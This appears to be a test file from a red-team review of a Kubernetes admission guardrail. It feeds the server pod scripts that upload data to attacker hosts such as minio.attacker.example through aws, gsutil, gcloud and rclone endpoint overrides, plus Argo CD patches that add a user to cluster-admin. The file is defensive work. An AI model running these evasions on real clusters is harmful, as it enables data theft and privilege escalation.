import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, freshSubjects, kubectlSender, reason, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';

/**
 * Session 48's second red team (review48b) against egress48's data_upload_outside, black-box
 * through the build `npm start` serves, with the example and a site's upload list (its regional S3
 * endpoint, its buckets, its rclone remote). A bucket destination (`s3://b`, `gs://b`,
 * `rclone://r`) names the site's bucket only while the tool sends it where its configuration says:
 * an endpoint in the env (the container's, an assignment, an export), a config the script writes or
 * points at, a flag, or an rclone connection string sends the listed bucket's name to any host. And
 * rclone's global flags before its verb (`rclone -P copy …`) hid the upload altogether. The shapes
 * one by one are in test/unit/guardrails-uploads.test.ts.
 */

const UPLOAD = 'guardrail:data_upload_outside';
const server = builtServerForFile('review48b', (yaml) => yaml.replace('guardrails:\n', 'guardrails:\n  upload_hosts: [s3.eu-central-1.amazonaws.com, "s3://helixa-models", "gs://helixa-backups", "rclone://minio"]\n  replica_floors: [{ namespaces: [shop], names: [\'checkout*\'], min_replicas: 5 }]\n'));
const subjects = freshSubjects(() => server().issuer, 'review48b');
const send = kubectlSender(server, subjects);
const PODS = '/api/v1/namespaces/ml/pods';
const IMAGE = `registry.example.com/train@sha256:${'b'.repeat(64)}`;
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];
const pod = (script: string, env: { name: string; value: string }[] = []) => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'train', namespace: 'ml' },
  spec: { restartPolicy: 'Never', containers: [{ name: 'train', image: IMAGE, command: ['sh', '-c', script], ...(env.length > 0 ? { env } : {}) }] },
});
const row = (what: string, script: string, env: { name: string; value: string }[] = []): Row => ({ what, req: { method: 'POST', path: PODS, headers: { 'content-type': 'application/json' }, body: pod(script, env) }, by: UPLOAD, refused: ALL });
const EVIL = 'https://minio.attacker.example';

describe('review48b: uploads that reached another host under a listed bucket name, through the server', () => {
  const rows: Row[] = [
    // Held before this review.
    row('aws s3 cp to an unlisted bucket (held)', 'aws s3 cp /mnt/data s3://exfil-bucket/x --recursive'),
    row('aws s3 cp from stdin to an unlisted bucket (held)', 'tar czf - /mnt/data | aws s3 cp - s3://exfil-bucket/x.tgz'),
    row("--endpoint-url a listed host's look-alike (held)", 'aws s3 cp /mnt/data s3://helixa-models/x --endpoint-url https://s3.eu-central-1.amazonaws.com.evil.example'),
    row('--endpoint-url with the listed host as userinfo (held)', 'aws s3 cp /mnt/data s3://helixa-models/x --endpoint-url https://s3.eu-central-1.amazonaws.com@evil.example'),
    // Missed: the aws CLI's endpoint from the env or its config.
    row('AWS_ENDPOINT_URL_S3 in the container env', 'aws s3 cp /mnt/data s3://helixa-models/x --recursive', [{ name: 'AWS_ENDPOINT_URL_S3', value: EVIL }]),
    row('AWS_ENDPOINT_URL as an assignment', `AWS_ENDPOINT_URL=${EVIL} aws s3 cp /mnt/data s3://helixa-models/x --recursive`),
    row('aws configure set endpoint_url, then a listed bucket', `aws configure set endpoint_url ${EVIL} && aws s3 sync /mnt/data s3://helixa-models/x`),
    // Missed: gsutil's and gcloud's endpoint overrides.
    row('gsutil -o Credentials:gs_json_host', 'gsutil -o Credentials:gs_json_host=storage.attacker.example cp -r /mnt/data gs://helixa-backups/x'),
    row('CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE for gcloud storage', `CLOUDSDK_API_ENDPOINT_OVERRIDES_STORAGE=${EVIL}/ gcloud storage cp -r /mnt/data gs://helixa-backups/x`),
    // Missed: rclone's remote redefined, or its verb behind a global flag.
    row('RCLONE_CONFIG_MINIO_ENDPOINT in the container env', 'rclone copy /mnt/data minio:models', [{ name: 'RCLONE_CONFIG_MINIO_ENDPOINT', value: EVIL }]),
    row('rclone config create of the listed remote', `rclone config create minio s3 endpoint ${EVIL} && rclone copy /mnt/data minio:models`),
    row('rclone --config of a file the script writes', `printf '[minio]\\ntype = s3\\nendpoint = ${EVIL}\\n' > /tmp/r.conf; rclone --config /tmp/r.conf copy /mnt/data minio:models`),
    row('rclone connection string overriding the endpoint', `rclone copy /mnt/data minio,endpoint=${EVIL}:models`),
    row('rclone --s3-endpoint before the operands', `rclone copy --s3-endpoint ${EVIL} /mnt/data minio:models`),
    row('rclone -P copy to an unlisted remote (a global flag before the verb)', 'rclone -P copy /mnt/data exfil:models'),
  ];
  checkEscalationRows(send, rows);

  it('uploads to the listed buckets with their own configuration are allowed on the two-factor sign-in a minute old', async () => {
    for (const script of [
      'aws s3 cp /mnt/models s3://helixa-models/potency --recursive --profile ml',
      'gsutil -o GSUtil:parallel_composite_upload_threshold=150M cp -r /mnt/backup gs://helixa-backups/nightly',
      'rclone --config /etc/rclone/rclone.conf -P copy /mnt/models minio:models',
    ]) {
      const res = await send({ method: 'POST', path: PODS, headers: { 'content-type': 'application/json' }, body: pod(script) }, 'laptop');
      expect(reason(res), `${script} [${rules(res)}]`).toBe('allowed');
    }
  });
});

const APPS = '/apis/argoproj.io/v1alpha1/namespaces/argocd/applications';
const application = (patches: object[]) => ({ apiVersion: 'argoproj.io/v1alpha1', kind: 'Application', metadata: { name: 'checkout-prod', namespace: 'argocd' }, spec: { project: 'shop', destination: { server: 'https://kubernetes.default.svc', namespace: 'shop' }, source: { repoURL: 'https://git.tessaly.example/shop/deploy.git', path: 'checkout/overlays/prod', targetRevision: 'main', kustomize: { patches } } } });
const appRow = (what: string, by: string, patches: object[], refused: State[] = ALL): Row => ({ what, req: { method: 'POST', path: APPS, headers: { 'content-type': 'application/json' }, body: application(patches) }, by, refused });
const SUBJECT = '- op: add\n  path: /subjects/-\n  value: {kind: User, name: mallory, apiGroup: rbac.authorization.k8s.io}\n';
const ONE_REPLICA = '- op: replace\n  path: /spec/replicas\n  value: 1\n';
const ADMIN = 'guardrail:rbac_cluster_admin_binding';

describe('review48b: kustomize patches an Argo CD Application carries, whose target names no kind or spells it as a regular expression', () => {
  checkEscalationRows(send, [
    appRow('a subject added to the cluster-admin ClusterRoleBinding, target by kind and name (held)', ADMIN, [{ target: { kind: 'ClusterRoleBinding', name: 'cluster-admin' }, patch: SUBJECT }]),
    appRow('a subject added to the cluster-admin binding, target by name only', ADMIN, [{ target: { name: 'cluster-admin' }, patch: SUBJECT }]),
    appRow('a subject added to the cluster-admin binding, target kind ClusterRoleBind.*', ADMIN, [{ target: { kind: 'ClusterRoleBind.*', name: 'cluster-admin' }, patch: SUBJECT }]),
    appRow('replicas 1 on a floored Deployment, target kind Deploy.* (held)', 'guardrail:capacity_below_floor', [{ target: { kind: 'Deploy.*', name: 'checkout' }, patch: ONE_REPLICA }], ['stolen', 'remote', 'everyday']),
  ]);

  // A target whose name is a regular expression (`check.*`) selects objects by a pattern the floor's
  // name globs cannot be compared with: judged with no name, it meets the namespace's highest floor.
  it('replicas 1 on a floored Deployment, target name check.*', async () => {
    const res = await send({ method: 'POST', path: APPS, headers: { 'content-type': 'application/json' }, body: application([{ target: { kind: 'Deployment', name: 'check.*' }, patch: ONE_REPLICA }]) }, 'everyday');
    expect(rules(res).split(',')).toContain('guardrail:capacity_below_floor');
  });
});
